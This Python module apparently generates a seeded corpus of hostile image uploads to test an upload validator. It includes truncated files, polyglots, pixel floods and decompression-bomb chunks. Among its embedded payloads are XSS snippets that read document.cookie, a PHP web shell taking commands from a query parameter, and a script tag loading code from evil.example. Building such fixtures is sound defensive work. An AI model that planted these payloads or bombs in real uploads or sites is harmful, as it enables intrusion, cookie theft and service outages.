"""A hostile upload corpus generated from a seed (nothing committed but this code).

``corpus(seed)`` returns at least 500 ``Specimen``s across every family an
attacker or a broken camera produces: truncated and bit-flipped files, wrong
extensions, HTML/SVG/PDF renamed to images, polyglots of every kind, pixel
floods, extreme aspect ratios, chunk bombs, malformed EXIF with every TIFF
field type, animated and multi-frame files, CMYK, 16-bit and HEIC.

Each specimen says what the upload must answer: ``reject`` (refused with a
message), ``accept`` (kept and processed by the worker) or ``either`` (a
damaged file that may still decode completely, e.g. one flipped bit in the
pixel data; whatever the answer, it is an answer, and if kept it must be
processed without a crash).
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

import numpy as np
import pillow_heif
from PIL import Image

FACES = Path(__file__).resolve().parents[1] / "data" / "faces"

pillow_heif.register_heif_opener()


@dataclass(frozen=True)
class Specimen:
    family: str
    name: str
    data: bytes
    expect: str  # "reject", "accept" or "either"


@lru_cache(maxsize=None)
def _face(name: str = "obama.jpg", side: int = 240) -> Image.Image:
    with Image.open(FACES / name) as image:
        face = image.convert("RGB")
    face.thumbnail((side, side))
    return face


def _varied(rng: random.Random) -> Image.Image:
    """A small real face, tinted and sized by the seed: every base file is distinct."""
    face = _face(rng.choice(("obama.jpg", "biden.jpg", "obama2.jpg", "two_people.jpg")),
                 rng.randrange(120, 260))
    tint = Image.new("RGB", face.size, tuple(rng.randrange(256) for _ in range(3)))
    return Image.blend(face, tint, rng.uniform(0.0, 0.25))


def _save(image: Image.Image, fmt: str, **kwargs: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **kwargs)
    return out.getvalue()


def _good(rng: random.Random, fmt: str | None = None) -> tuple[bytes, str]:
    fmt = fmt or rng.choice(("JPEG", "PNG", "WEBP", "HEIF"))
    image = _varied(rng)
    ext = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "HEIF": "heic"}[fmt]
    kwargs: dict[str, object] = {"quality": 85} if fmt in ("JPEG", "WEBP", "HEIF") else {}
    return _save(image, fmt, **kwargs), ext


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *, extra: bytes = b"", idat: bytes | None = None,
         depth: int = 8, colour: int = 2) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    if idat is None:
        idat = zlib.compress(b"\x00" * (1 + 3 * min(width, 4096)), 9)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", idat)
            + _chunk(b"IEND", b""))


# --- families ---------------------------------------------------------------------


def _truncated(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        data, ext = _good(rng)
        cut = rng.randrange(max(1, len(data) // 10), len(data) * 9 // 10)
        out.append(Specimen("truncated", f"truncated-{i}.{ext}", data[:cut], "reject"))
    return out


def _bit_flipped(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        data, ext = _good(rng)
        buf = bytearray(data)
        for _ in range(rng.choice((1, 2, 8, 64))):
            pos = rng.randrange(len(buf))
            buf[pos] ^= 1 << rng.randrange(8)
        out.append(Specimen("bit_flipped", f"flipped-{i}.{ext}", bytes(buf), "either"))
    return out


def _wrong_extension(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        data, ext = _good(rng)
        wrong = rng.choice([e for e in ("jpg", "png", "webp", "heic", "gif", "txt", "exe", "")
                            if e != ext])
        out.append(Specimen("wrong_extension", f"renamed-{i}.{wrong}".rstrip("."), data,
                            "accept"))
    return out


_SVG = ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="{w}" '
        'height="{h}"><script>alert({n})</script><rect width="10" height="10"/></svg>')
_HTML = "<!DOCTYPE html><html><body><img src=x onerror=alert({n})><p>{pad}</p></body></html>"


def _pdf(n: int) -> bytes:
    body = f"BT /F1 12 Tf 72 712 Td (page {n}) Tj ET".encode()
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n"
            + f"4 0 obj<</Length {len(body)}>>stream\n".encode() + body
            + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def _renamed_documents(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        kind = ("html", "svg", "pdf")[i % 3]
        ext = rng.choice(("jpg", "jpeg", "png", "webp", "heic"))
        if kind == "html":
            data = _HTML.format(n=i, pad="x" * rng.randrange(0, 5000)).encode()
        elif kind == "svg":
            data = _SVG.format(w=rng.randrange(1, 5000), h=rng.randrange(1, 5000), n=i).encode()
        else:
            data = _pdf(i)
        out.append(Specimen("renamed_document", f"{kind}-{i}.{ext}", data, "reject"))
    return out


def _zip(rng: random.Random) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=rng.choice((zipfile.ZIP_STORED,
                                                            zipfile.ZIP_DEFLATED))) as zf:
        zf.writestr("index.html", "<script>alert(1)</script>")
    return buf.getvalue()


_PAYLOADS = {
    "html": lambda rng: b"<html><body><script>alert(document.cookie)</script></body></html>",
    "svg": lambda rng: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": lambda rng: b"<?php system($_GET['c']); ?>",
    "pdf": lambda rng: _pdf(rng.randrange(1000)),
    "zip": _zip,
    "script": lambda rng: b"<script src=//evil.example/x.js></script>",
}


def _jpeg_with_segment(image: Image.Image, marker: bytes, payload: bytes) -> bytes:
    data = _save(image, "JPEG", quality=85)
    segment = marker + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment + data[2:]  # right after SOI


def _polyglots(rng: random.Random, n: int) -> list[Specimen]:
    """Appended, prepended and embedded second meanings, in every container."""
    out = []
    kinds = list(_PAYLOADS)
    places = ("appended", "jpeg_comment", "jpeg_app", "png_text", "png_after_iend",
              "webp_chunk", "prepended", "heic_trailer")
    for i in range(n):
        kind, place = kinds[i % len(kinds)], places[(i // len(kinds)) % len(places)]
        payload = _PAYLOADS[kind](rng)
        image = _varied(rng)
        if place == "appended":
            data, ext = _good(rng)
            data = data + payload
        elif place == "jpeg_comment":
            data, ext = _jpeg_with_segment(image, b"\xff\xfe", payload), "jpg"
        elif place == "jpeg_app":
            data, ext = _jpeg_with_segment(image, bytes([0xFF, 0xE0 + rng.randrange(2, 16)]),
                                           payload), "jpg"
        elif place in ("png_text", "png_after_iend"):
            png = _save(image, "PNG")
            if place == "png_text":
                # Uncompressed text chunks: the payload is readable in the file's bytes
                # (in a zTXt it is deflated, so not a second meaning of the file).
                kind_chunk = rng.choice((b"tEXt", b"iTXt"))
                body = b"Comment\x00" + payload
                if kind_chunk == b"iTXt":
                    body = b"Comment\x00\x00\x00\x00\x00" + payload
                end = png.rindex(b"IEND") - 4
                data = png[:end] + _chunk(kind_chunk, body) + png[end:]
            else:
                data = png + payload
            ext = "png"
        elif place == "webp_chunk":
            webp = _save(image, "WEBP", quality=80)
            extra = b"XMP " + struct.pack("<I", len(payload)) + payload
            if len(payload) % 2:
                extra += b"\x00"
            body = webp[12:] + extra
            data, ext = b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body, "webp"
        elif place == "prepended":
            data, ext = payload + _save(image, "JPEG", quality=85), "jpg"
        else:
            data, ext = _save(image, "HEIF", quality=70) + payload, "heic"
        out.append(Specimen("polyglot", f"polyglot-{kind}-{place}-{i}.{ext}", data, "reject"))
    return out


def _jpeg_sof(width: int, height: int) -> bytes:
    """A minimal baseline JPEG header declaring ``width`` x ``height``, then almost nothing."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + \
        b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8" + sof + b"\xff\xda\x00\x0c\x03\x01\x00\x02\x11\x03\x11\x00\x3f\x00" + \
        b"\x00" * 64 + b"\xff\xd9"


def _pixel_floods(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        way = i % 4
        side = rng.choice((20_000, 50_000, 65_535, 100_000, 1_000_000))
        if way == 0:
            data, ext = _png(side, side), "png"
        elif way == 1:
            data, ext = _jpeg_sof(min(side, 65_535), min(side, 65_535)), "jpg"
        elif way == 2:
            # 9,000 x 9,000: inside the side limit, over the pixel limit, highly compressible.
            data, ext = _png(9_000 + i, 9_000, idat=zlib.compress(
                b"\x00" * (1 + 3 * 9_000), 9)), "png"
        else:
            w, h = rng.randrange(1, 16_383), rng.randrange(1, 16_383)
            # A VP8 frame header (key frame, declared size), no real data.
            frame = b"\x10\x02\x00\x9d\x01\x2a" + struct.pack("<HH", w, h)
            vp8 = b"VP8 " + struct.pack("<I", len(frame)) + frame
            data, ext = b"RIFF" + struct.pack("<I", len(vp8) + 4) + b"WEBP" + vp8, "webp"
        out.append(Specimen("pixel_flood", f"flood-{i}.{ext}", data, "reject"))
    return out


def _extreme_aspect(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        long_side = rng.choice((1_100, 5_000, 15_000, 40_000))
        short = rng.choice((1, 2, 3, 99)) if long_side < 40_000 else rng.choice((1, 2))
        w, h = (long_side, short) if i % 2 else (short, long_side)
        image = Image.new("RGB", (w, h), tuple(rng.randrange(256) for _ in range(3)))
        fmt = rng.choice(("PNG", "JPEG")) if max(w, h) <= 65_000 else "PNG"
        if fmt == "JPEG" and max(w, h) > 65_500:
            fmt = "PNG"
        data = _save(image, fmt)
        out.append(Specimen("extreme_aspect", f"strip-{i}-{w}x{h}.{fmt.lower()}", data,
                            "reject"))
    return out


def _chunk_bombs(rng: random.Random, n: int) -> list[Specimen]:
    """Decompression bombs in ancillary chunks, thousands of chunks, huge declared lengths."""
    out = []
    base = _save(_face("obama.jpg", 160), "PNG")
    end = base.rindex(b"IEND") - 4
    for i in range(n):
        way = i % 5
        if way == 0:  # zTXt that inflates to 100+ MB
            bomb = b"Comment\x00\x00" + zlib.compress(b"A" * (64 << 20), 9)
            data = base[:end] + _chunk(b"zTXt", bomb) + base[end:]
        elif way == 1:  # iCCP profile that inflates to 100+ MB
            bomb = b"icc\x00\x00" + zlib.compress(b"\x00" * (64 << 20), 9)
            ihdr_end = 8 + 25
            data = base[:ihdr_end] + _chunk(b"iCCP", bomb) + base[ihdr_end:]
        elif way == 2:  # 20,000 tiny text chunks
            many = b"".join(_chunk(b"tEXt", b"k\x00" + bytes([65 + j % 26]))
                            for j in range(20_000))
            data = base[:end] + many + base[end:]
        elif way == 3:  # a chunk claiming 2 GB
            data = base[:end] + struct.pack(">I", 0x7FFFFFF0) + b"tEXt" + b"x" * 64
        else:  # JPEG with 2,000 APP segments
            jpg = _save(_face("biden.jpg", 160), "JPEG", quality=80)
            segs = b"".join(b"\xff\xe9" + struct.pack(">H", 66) + bytes([j % 256]) * 64
                            for j in range(2_000))
            data = jpg[:2] + segs + jpg[2:]
        ext = "jpg" if way == 4 else "png"
        out.append(Specimen("chunk_bomb", f"chunkbomb-{i}.{ext}", data, "either"))
    return out


# TIFF field types 1-12 with their sizes, and values that make no sense for them.
_TIFF_TYPES = {1: 1, 2: 1, 3: 2, 4: 4, 5: 8, 6: 1, 7: 1, 8: 2, 9: 4, 10: 8, 11: 4, 12: 8}
_TAGS = (0x0112, 0x010F, 0x0110, 0x0132, 0x011A, 0x8769, 0x8825, 0xA002, 0x9003, 0x927C,
         0x0201, 0x0202, 0xA005)


def _exif(rng: random.Random, i: int) -> bytes:
    """A little- or big-endian TIFF block with entries of every type, count and offset abuse."""
    little = i % 2 == 0
    e = "<" if little else ">"
    entries = []
    for _ in range(rng.randrange(1, 8)):
        tag = rng.choice(_TAGS)
        kind = rng.choice(list(_TIFF_TYPES) + [0, 13, 255, 0xFFFF])
        abuse = rng.randrange(5)
        if abuse == 0:
            count, value = rng.randrange(0, 3), rng.randrange(1 << 32)
        elif abuse == 1:
            count, value = 0xFFFFFFFF, rng.randrange(1 << 32)  # huge count, offset anywhere
        elif abuse == 2:
            count, value = rng.randrange(1, 64), 8  # points back at the IFD itself (a loop)
        elif abuse == 3:
            count, value = 1, rng.choice((0, 9, 0xFFFF, 0xFFFFFFFF))  # out-of-range Orientation
        else:
            count, value = rng.randrange(1, 200), rng.randrange(8, 400)
        entries.append(struct.pack(e + "HHII", tag, kind, count, value))
    ifd = struct.pack(e + "H", len(entries)) + b"".join(entries)
    next_ifd = struct.pack(e + "I", rng.choice((0, 8, 0xFFFFFFFF)))
    junk = bytes(rng.randrange(256) for _ in range(rng.randrange(0, 300)))
    header = (b"II*\x00" if little else b"MM\x00*") + struct.pack(e + "I", 8)
    return b"Exif\x00\x00" + header + ifd + next_ifd + junk


def _malformed_exif(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        image = _varied(rng)
        exif = _exif(rng, i)
        fmt = ("JPEG", "PNG", "WEBP")[i % 3]
        if fmt == "PNG":
            data = _save(image, "PNG", exif=exif[6:])
        else:
            data = _save(image, fmt, exif=exif, quality=85)
        ext = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp"}[fmt]
        out.append(Specimen("malformed_exif", f"exif-{i}.{ext}", data, "either"))
    return out


def _animated(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        frames = [_varied(rng) for _ in range(rng.randrange(2, 5))]
        size = frames[0].size
        frames = [f.resize(size) for f in frames]
        way = i % 5
        if way == 0:
            data, ext, expect = _save(frames[0], "GIF", save_all=True,
                                      append_images=frames[1:], loop=0), "gif", "reject"
        elif way == 1:
            data, ext, expect = _save(frames[0], "PNG", save_all=True,
                                      append_images=frames[1:]), "png", "either"
        elif way == 2:
            data, ext, expect = _save(frames[0], "WEBP", save_all=True,
                                      append_images=frames[1:], quality=70), "webp", "either"
        elif way == 3:
            data, ext, expect = _save(frames[0], "TIFF", save_all=True,
                                      append_images=frames[1:]), "tif", "reject"
        else:
            data, ext, expect = _save(frames[0], "MPO", save_all=True,
                                      append_images=frames[1:], quality=80), "jpg", "either"
        out.append(Specimen("animated", f"animated-{i}.{ext}", data, expect))
    return out


def _colour_depths(rng: random.Random, n: int) -> list[Specimen]:
    """CMYK (with and without Adobe inversion), 16-bit, palette, alpha, 1-bit: all real photos."""
    out = []
    for i in range(n):
        image = _varied(rng)
        way = i % 7
        if way == 0:
            data, ext = _save(image.convert("CMYK"), "JPEG", quality=85), "jpg"
        elif way == 1:
            grey = np.asarray(image.convert("L"), dtype=np.uint16) * 257
            data, ext = _save(Image.fromarray(grey), "PNG"), "png"
        elif way == 2:
            rgb16 = (np.asarray(image, dtype=np.uint16) * 257).astype(">u2")
            h, w, _ = rgb16.shape
            raw = b"".join(b"\x00" + rgb16[y].tobytes() for y in range(h))
            data, ext = _png(w, h, idat=zlib.compress(raw, 6), depth=16, colour=2), "png"
        elif way == 3:
            data, ext = _save(image.convert("P", palette=Image.Palette.ADAPTIVE), "PNG"), "png"
        elif way == 4:
            rgba = image.convert("RGBA")
            rgba.putalpha(rng.randrange(0, 256))
            data, ext = _save(rgba, rng.choice(("PNG", "WEBP"))), "png"
        elif way == 5:
            data, ext = _save(image.convert("1"), "PNG"), "png"
        else:
            data, ext = _save(image.convert("L"), "JPEG", quality=85), "jpg"
        out.append(Specimen("colour_depth", f"colour-{way}-{i}.{ext}", data, "accept"))
    return out


def _heic(rng: random.Random, n: int) -> list[Specimen]:
    out = []
    for i in range(n):
        image = _varied(rng)
        way = i % 3
        if way == 0:
            data, expect = _save(image, "HEIF", quality=rng.randrange(40, 95)), "accept"
        elif way == 1:
            data = _save(image.convert("RGBA"), "HEIF", quality=70)
            expect = "accept"
        else:
            full = _save(image, "HEIF", quality=70)
            data, expect = full[: len(full) * rng.randrange(3, 9) // 10], "reject"
        out.append(Specimen("heic", f"heic-{i}.heic", data, expect))
    return out


FAMILIES = (
    (_truncated, 50), (_bit_flipped, 60), (_wrong_extension, 30), (_renamed_documents, 45),
    (_polyglots, 96), (_pixel_floods, 32), (_extreme_aspect, 24), (_chunk_bombs, 15),
    (_malformed_exif, 60), (_animated, 30), (_colour_depths, 42), (_heic, 24),
)


def corpus(seed: int) -> list[Specimen]:
    """Every family, generated from ``seed`` (the same seed, the same files)."""
    rng = random.Random(seed)
    specimens: list[Specimen] = []
    for family, count in FAMILIES:
        specimens.extend(family(random.Random(rng.random()), count))
    return specimens
